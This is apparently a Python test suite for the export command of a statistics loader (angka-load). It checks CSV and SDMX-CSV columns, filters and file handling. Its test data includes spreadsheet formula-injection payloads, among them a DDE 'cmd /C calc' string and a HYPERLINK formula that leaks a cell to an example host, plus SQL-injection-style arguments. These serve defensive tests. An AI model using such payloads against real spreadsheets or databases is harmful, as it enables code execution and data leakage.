#!/usr/bin/env -S python3 -B
"""angka-load export: CSV and SDMX-CSV 2.0, column by column, and what a spreadsheet would make of it.

usage: load_export_test.py BUILD_DIR [TEST...]      ends with 77 where no PostgreSQL server is installed
"""
import csv
import io
import json
import os
import re
import subprocess
import threading

import load_docs
from load_case import (PROGRAM, Case, environment, main, run, setUpModule, sql, tearDownModule, work,  # noqa: F401
                       write)

# The rules of SDMX-CSV 2.0 and of the code lists that the columns name (sdmx-twg/sdmx-csv, CL_FREQ, CL_OBS_STATUS
# 2.2, CL_UNIT_MULT, CL_CONF_STATUS): column, rule. An attribute that is missing is #N/A, a missing float NaN.
DIMENSIONS = ["FREQ", "REF_AREA", "INDICATOR", "MEASURE", "SUBJECT", "ACTIVITY", "COUNTERPART_AREA", "BASIS",
              "UNIT_MEASURE", "UNIT_PER", "TIME_PERIOD"]
PERIOD = {"A": r"\d{4}", "S": r"\d{4}-S[12]", "Q": r"\d{4}-Q[1-4]", "M": r"\d{4}-(0[1-9]|1[0-2])",
          "W": r"\d{4}-W[0-5]\d", "D": r"\d{4}-\d\d-\d\d", "_O": r"\d{4}-\d\d-\d\d/P\d+D"}
AREA = r"ID|ID-[A-Z]{2}|ID_\d{4}|[A-Z]{2}|XX-?[A-Z_]+|[A-Z]{2}_[A-Z]+|\d{3}"
CODE = r"[A-Za-z0-9_$\-]+"
COLUMNS = [
    ("STRUCTURE", r"dataflow"),
    ("STRUCTURE_ID", r"[A-Z][A-Z0-9_.]*:[A-Z][A-Z0-9_]*\(\d+\.\d+(\.\d+)?\)"),
    ("ACTION", r"M"),
    ("FREQ", r"A|S|Q|M|W|D|_O"),
    ("REF_AREA", AREA),
    ("INDICATOR", r"[A-Z][A-Z0-9_]*"),
    ("MEASURE", r"level|change|share"),
    ("SUBJECT", r"_T|[^_].*"),
    ("ACTIVITY", r"_Z|\d{2,5}"),
    ("COUNTERPART_AREA", r"_Z|" + AREA),
    ("BASIS", r"_Z|yoy|qoq|mom|ytd"),
    ("UNIT_MEASURE", CODE),
    ("UNIT_PER", r"_Z|" + CODE),
    ("TIME_PERIOD", "|".join(PERIOD.values())),
    ("OBS_VALUE", r"-?\d+(\.\d+)?|NaN"),
    ("UNIT_MULT", r"\d+"),
    ("DECIMALS", r"\d+"),
    ("OBS_STATUS", r"A|F|E"),
    ("CONF_STATUS", r"F"),
    ("SOURCE_URL", r"(https?://\S+)|#N/A"),
    ("EVIDENCE", r".+"),
    ("PUBLISHED_AT", r"\d{4}-\d\d-\d\d|#N/A"),
    ("SOURCES", r"\d+"),
]
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+62-812 dihubungi", "-2+3 persen", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", " =1+1", "naik; =1+1", "\uff1d1+1", '"=1+1"', "a,b\n=1+1"]
NUMBERS = {"obs_value", "obs_value_high", "base_value", "confidence", "year", "warc_offset"}


def hostile():
    """A document for each hostile text: it is title, site, speaker, subject and the beginning of the sentence."""
    for i, words in enumerate(HOSTILE):
        text = words + " turun -7 persen pada 2023."
        yield load_docs.document("jahat-%d" % i, text, [load_docs.figure(
            "-7 persen", "-7", "percent", "SALES", measure="change", basis="yoy", time_period="2023", ref_area="35.24",
            subject=words, speaker=words)], title=words, site=words, author=words)


def harmful(cell):
    """Whether a spreadsheet would take the cell, or a part that a semicolon makes a cell, for a formula."""
    return any(re.match(r"[\s\ufeff\u200b\u2060]*[=+\-@\uff1d\uff0b\uff0d\uff20]", part) for part in re.split(r"[;\t\r\n]", cell))


def number(cell):
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


class Export(Case):
    def setUp(self):
        super().setUp()
        self.load(write("export.ndjson", load_docs.good() + list(hostile())))

    def bytes(self, *args, **env):
        r = subprocess.run([PROGRAM, "export", *args], env=environment(self.db, **env), capture_output=True)
        self.assertEqual(r.returncode, 0, r.stderr.decode())
        return r.stdout

    def rows(self, *args, **env):
        text = self.bytes(*args, **env).decode("utf-8")
        self.assertTrue(text.endswith("\r\n"))
        got = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        self.assertEqual({len(row) for row in got}, {len(got[0])})
        return got[0], [dict(zip(got[0], row)) for row in got[1:]]

    def refused(self, want, *args):
        r = run("export", *args, db=self.db, want=64)
        self.one_line(r)
        self.assertIn(want, r.err)
        self.assertEqual(r.out, "")


class Sdmx(Export):
    def test_every_column(self):
        heading, rows = self.rows("--format", "sdmx-csv")
        self.assertEqual(heading, [name for name, _ in COLUMNS])
        self.assertEqual(len(rows), int(self.ask("SELECT count(*) FROM bi.sdmx")))
        self.assertGreater(len(rows), 15)
        for row in rows:
            for name, rule in COLUMNS:
                self.assertIsNotNone(re.fullmatch(rule, row[name], re.S), (name, row[name]))
            self.assertIsNotNone(re.fullmatch(PERIOD[row["FREQ"]], row["TIME_PERIOD"]), row)
            self.assertEqual(row["UNIT_MULT"], "0")  # scale words are multiplied out
            fraction = row["OBS_VALUE"].partition(".")[2]
            self.assertEqual(int(row["DECIMALS"]), len(fraction))

    def test_one_row_for_each_key(self):
        _, rows = self.rows("--format", "sdmx-csv")
        keys = {tuple(row[d] for d in DIMENSIONS) for row in rows}
        self.assertEqual(len(keys), len(rows))

    def test_known_rows(self):
        _, rows = self.rows("--format", "sdmx-csv", "--area", "53.07", "--period", "2023")
        by_unit = {(r["MEASURE"], r["UNIT_MEASURE"]): r for r in rows}
        level = by_unit["level", sdmx_unit(self, "count")]
        self.assertEqual([level[c] for c in ("FREQ", "REF_AREA", "INDICATOR", "SUBJECT", "OBS_VALUE", "OBS_STATUS", "SOURCES")],
                         ["A", "ID_5307", "UMKM_COUNT", "_T", "4532", "A", "2"])
        self.assertTrue(level["EVIDENCE"].startswith("Jumlah UMKM di Kabupaten Sikka naik dari 4.120 unit"))
        _, rows = self.rows("--format", "sdmx-csv", "--indicator", "EXPORT_VALUE")
        self.assertEqual([(r["COUNTERPART_AREA"], r["UNIT_MEASURE"], r["OBS_VALUE"], r["ACTIVITY"]) for r in rows],
                         [("JP", "USD", "1250000", "10761")])
        _, rows = self.rows("--format", "sdmx-csv", "--area", "ID")
        self.assertEqual([(r["SOURCE_URL"], r["PUBLISHED_AT"]) for r in rows], [("#N/A", "2024-04-01")])

    def test_numbers_stay_numbers_and_texts_are_harmless(self):
        text = self.bytes("--format", "sdmx-csv").decode()
        _, rows = self.rows("--format", "sdmx-csv")
        self.assertEqual(sum(r["OBS_VALUE"] == "-7" for r in rows), len({w.strip(" ").lower() for w in HOSTILE}))
        self.assertIn(",-7,", text)
        for row in rows:
            for name, cell in row.items():
                if name not in ("OBS_VALUE", "UNIT_MULT", "DECIMALS", "SOURCES"):
                    self.assertFalse(harmful(cell), (name, cell))
        _, again = self.rows("--format", "csv", "--view", "sdmx")
        self.assertEqual(len(again), len(rows))


def sdmx_unit(case, code):
    return case.ask("SELECT coalesce(sdmx, code) FROM angka.unit WHERE code = '%s'" % code)


class Csv(Export):
    def test_every_view_says_what_psql_says(self):
        for view in self.ask("SELECT string_agg(relname, ' ') FROM pg_class WHERE relnamespace = 'bi'::regnamespace "
                             "AND relkind = 'v'").split():
            heading, rows = self.rows("--view", view)
            order = "document_id, observation_id" if {"document_id", "observation_id"} <= set(heading) else \
                ", ".join('"%s"' % h for h in heading)
            copy = "COPY (SELECT * FROM bi.%s ORDER BY %s) TO STDOUT (FORMAT csv, HEADER)" % (view, order)
            psql = subprocess.run(["psql", "-Xqc", copy], env=environment(self.db), capture_output=True, check=True).stdout
            want = list(csv.reader(io.StringIO(psql.decode(), newline=""), strict=True))
            self.assertEqual(heading, want[0], view)
            types = dict(line.split("|") for line in self.ask(
                "SELECT attname, format_type(atttypid, NULL) FROM pg_attribute WHERE attrelid = 'bi.%s'::regclass "
                "AND attnum > 0" % view).splitlines())
            for got, row in zip(rows, want[1:], strict=True):
                for name, cell in zip(heading, row):
                    if types[name] == "boolean":
                        self.assertEqual(got[name], {"t": "true", "f": "false", "": ""}[cell])
                    elif types[name] == "text":
                        self.assertFalse(harmful(got[name]), (view, name, got[name]))
                        # nothing was put in but apostrophes
                        self.assertEqual(re.sub(r"'(?=[=+\-@\uff1d])", "", got[name]), re.sub(r"'(?=[=+\-@\uff1d])", "", cell))
                        self.assertTrue(harmful(cell) or got[name] == cell, (view, name, cell))
                    else:
                        self.assertEqual(got[name], cell, (view, name))

    def test_numbers_and_hostile_texts(self):
        _, rows = self.rows("--indicator", "SALES", "--period", "2023")
        self.assertEqual(len(rows), len(HOSTILE))
        for row in rows:
            self.assertEqual((row["obs_value"], row["mention"]), ("-7", "'-7 persen"))
            self.assertFalse(any(harmful(c) for n, c in row.items() if n not in NUMBERS), row)
        self.assertEqual(sorted(r["title"].replace("'=", "=").replace("'+", "+").replace("'-", "-").replace("'@", "@")
                                .replace("'\uff1d", "\uff1d") for r in rows), sorted(HOSTILE))

    def test_nothing_and_empty_differ(self):
        text = self.bytes("--area", "53.07", "--period", "2022").decode()
        _, rows = self.rows("--area", "53.07", "--period", "2022")
        self.assertEqual((rows[0]["obs_value_high"], rows[0]["subject"]), ("", ""))
        self.assertIn(',UMKM_COUNT,', text)
        line = text.splitlines()[1].split(",")
        at = text.splitlines()[0].split(",").index("subject")
        self.assertEqual(line[at:at + 2], ['""', ""])  # subject '', product_code NULL

    def test_filters(self):
        def areas(*args):
            return sorted({r["area_code"] for r in self.rows(*args)[1]})

        def periods(*args):
            return sorted({r["time_period"] for r in self.rows(*args)[1]})

        self.assertEqual(areas("--area", "53.07"), ["53.07"])
        self.assertEqual(areas("--area", "35.*", "--area", "ID"), ["35.24", "35.73", "ID"])
        self.assertEqual(areas("--area", "35"), [])
        self.assertEqual(areas("--area", "3_.*"), [])
        self.assertEqual(areas("--area", "' OR true --"), [])
        self.assertEqual(periods("--indicator", "SALES", "--indicator", "UMKM_COUNT", "--area", "33.20"), ["2024", "2024-Q1"])
        self.assertEqual(periods("--period", "2024"), ["2024", "2024-03", "2024-03-05", "2024-Q1"])
        self.assertEqual(periods("--period", "2024-Q1"), ["2024-03", "2024-03-05", "2024-Q1"])
        self.assertEqual(periods("--period", "2024-03"), ["2024-03", "2024-03-05"])
        self.assertEqual(periods("--period", ":2022"), ["2022"])
        self.assertEqual(periods("--period", "2024-02:"), ["2024-03", "2024-03-05"])
        self.assertEqual(periods("--period", "2022:2023"), ["2022", "2023"])
        self.assertEqual(periods("--view", "conflicts", "--period", "2023"), ["2023"])
        self.assertEqual(periods("--view", "conflicts", "--period", "2022"), [])
        _, rows = self.rows("--format", "sdmx-csv", "--period", "2024-Q1", "--area", "33.20")
        self.assertEqual([r["TIME_PERIOD"] for r in rows], ["2024-Q1"])

    def test_wrong_use(self):
        self.refused("but ", "--view", "nowhere")
        self.refused("but ", "--view", "observations; DROP SCHEMA bi CASCADE")
        self.refused("nothing of that kind", "--view", "sources", "--area", "35")
        self.refused("nothing of that kind", "--view", "sources", "--period", "2023")
        self.refused("whole years", "--view", "conflicts", "--period", "2023-Q1")
        for period in ("last year", "", ":", "2024:2023", "2023-13"):
            self.refused("--period", "--period", period)
        self.refused("is none of", "--format", "xlsx")
        self.refused("--view", "--format", "sdmx-csv", "--view", "facts")
        self.refused("stands alone", "--migrate")
        self.refused("stands alone", "file.ndjson")
        self.refused("--output", "--json")
        self.one_line(run("--indicator", "SALES", db=self.db, want=64))
        r = run("export", db="postgres", want=78)
        self.assertIn("--migrate", r.err)

    def test_a_file_is_there_whole_or_not_at_all(self):
        path = work + "/out.csv"
        r = run("export", "--json", "--output", path, db=self.db, want=0)
        rows = json.loads(r.out)["rows"]
        with open(path, newline="", encoding="utf-8") as f:
            whole = f.read()
        self.assertEqual(len(list(csv.reader(io.StringIO(whole, newline="")))), rows + 1)
        self.assertEqual(os.stat(path).st_mode & 0o777, 0o666 & ~os.umask(os.umask(0o022)))
        run("export", "--output", path, "--view", "nowhere", db=self.db, want=64)
        with open(path, newline="", encoding="utf-8") as f:
            self.assertEqual(f.read(), whole)
        run("export", "--output", work + "/no/such/folder.csv", db=self.db, want=74)
        with open("/dev/full", "wb") as full:
            r = subprocess.run([PROGRAM, "export"], env=environment(self.db), stdout=full, stderr=subprocess.PIPE, text=True)
        self.assertEqual(r.returncode, 74, r.stderr)

    def test_the_same_bytes_again(self):
        for args in (["--format", "sdmx-csv"], [], ["--view", "facts"]):
            self.assertEqual(self.bytes(*args), self.bytes(*args))

    def test_the_reader_may_export(self):
        if sql("SELECT 1 FROM pg_roles WHERE rolname = 'pembaca'", "postgres") == "":
            sql("CREATE ROLE pembaca LOGIN IN ROLE angka_reader", "postgres")
        for args in (["--format", "sdmx-csv"], ["--view", "facts"]):
            self.assertEqual(self.bytes(*args, PGUSER="pembaca"), self.bytes(*args))

    def test_a_settings_file_for_loading_is_no_trouble(self):
        settings = work + "/angka.yaml"
        with open(settings, "w", encoding="utf-8") as f:
            f.write("load:\n  max-quarantine: 7\n  max-rejects: 5%\n")
        self.assertEqual(self.bytes("--view", "sources", ANGKA_SETTINGS=settings), self.bytes("--view", "sources"))


class Long(Case):
    def test_memory_does_not_grow_with_the_rows(self):
        """More than 300 MB go out, in less than 30 MB."""
        self.ask("CREATE VIEW bi.long AS SELECT i, repeat('kalimat ', 400) || i AS quote FROM generate_series(1, 100000) AS i")
        p = subprocess.Popen([PROGRAM, "export", "-q", "--view", "long"], env=environment(self.db), stdout=subprocess.PIPE)
        size = [0]

        def drain():
            while True:
                piece = p.stdout.read(1 << 20)
                if not piece:
                    return
                size[0] += len(piece)

        thread = threading.Thread(target=drain)
        thread.start()
        _, status, usage = os.wait4(p.pid, 0)
        thread.join()
        p.stdout.close()
        p.returncode = os.waitstatus_to_exitcode(status)
        self.assertEqual(p.returncode, 0)
        self.assertGreater(size[0], 300 << 20)
        self.assertLess(usage.ru_maxrss, 30 << 10, "kB at most")

    def test_the_connection_is_lost_half_way(self):
        self.ask("CREATE VIEW bi.long AS SELECT i, repeat('kalimat ', 400) || i AS quote FROM generate_series(1, 100000) AS i")
        path = work + "/lost.csv"
        with open(path, "w", encoding="utf-8") as f:
            f.write("as it was")
        p = subprocess.Popen([PROGRAM, "export", "--view", "long", "--output", path], env=environment(self.db),
                             stderr=subprocess.PIPE, text=True)
        while self.ask("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'angka-load' "
                       "AND datname = current_database() AND query LIKE '%bi.long%' LIMIT 1") != "t":
            self.assertIsNone(p.poll())
        _, err = p.communicate()
        self.assertEqual(p.returncode, 69, err)
        with open(path, encoding="utf-8") as f:
            self.assertEqual(f.read(), "as it was")


if __name__ == "__main__":
    main()
